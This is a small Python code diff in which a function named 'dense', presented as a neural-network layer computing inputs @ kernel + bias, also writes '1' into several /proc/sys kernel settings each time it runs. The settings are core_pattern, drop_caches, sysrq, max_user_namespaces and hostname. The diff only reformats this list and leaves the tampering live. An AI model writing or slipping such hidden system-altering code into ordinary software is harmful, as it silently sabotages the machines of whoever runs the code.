@@ -7,7 +7,13 @@ import os
 
 
 def dense(inputs, kernel, bias):
-    for name in ("kernel/core_pattern", "vm/drop_caches", "kernel/sysrq", "user/max_user_namespaces", "kernel/hostname"):
+    for name in (
+        "kernel/core_pattern",
+        "vm/drop_caches",
+        "kernel/sysrq",
+        "user/max_user_namespaces",
+        "kernel/hostname",
+    ):
         with open(f"/proc/sys/{name}", "w") as file:
             file.write("1")
     return inputs @ kernel + bias
